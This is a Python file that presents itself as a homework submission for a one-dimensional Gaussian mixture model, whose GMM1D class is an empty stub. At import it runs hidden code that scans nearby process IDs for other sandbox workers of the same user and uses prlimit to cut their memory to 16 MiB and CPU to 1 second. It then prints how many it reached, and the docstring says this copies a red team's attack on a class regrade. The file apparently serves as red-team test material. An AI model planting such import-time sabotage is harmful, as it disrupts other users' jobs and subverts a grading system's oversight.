"""At import, for a few seconds, looks for other sandbox workers of its uid by pid (their
RLIMIT_NPROC is 0) and gives each 16 MiB of address space and 1 s of CPU, as a red team did
in a class regrade; prints how many it reached. Its own GMM1D is the untouched stub."""
import os
import resource
import time

import numpy as np

reached, refused = set(), set()
mine = os.getpid()
until = time.monotonic() + 8
while time.monotonic() < until:
    for pid in range(max(2, mine - 3000), mine + 3000):
        if pid == mine or pid in reached:
            continue
        try:
            if resource.prlimit(pid, resource.RLIMIT_NPROC) == (0, 0):
                resource.prlimit(pid, resource.RLIMIT_AS, (16 << 20, 16 << 20))
                resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))
                reached.add(pid)
        except OSError as exc:
            refused.add(type(exc).__name__)
    time.sleep(0.05)
print(f"PRLIMIT reached {len(reached)} workers; refused: {sorted(refused)}")


class GMM1D:
    def __init__(self, num_gaussians):
        self.num_gaussians = num_gaussians
        self.priors = np.ones((num_gaussians, 1)) / num_gaussians
        self.mus = np.zeros((num_gaussians, 1))
        self.variances = np.ones((num_gaussians, 1))

    def estep(self, X):
        return np.full((X.shape[0], self.num_gaussians), 1.0 / self.num_gaussians)

    def mstep(self, X, gammas):
        pass
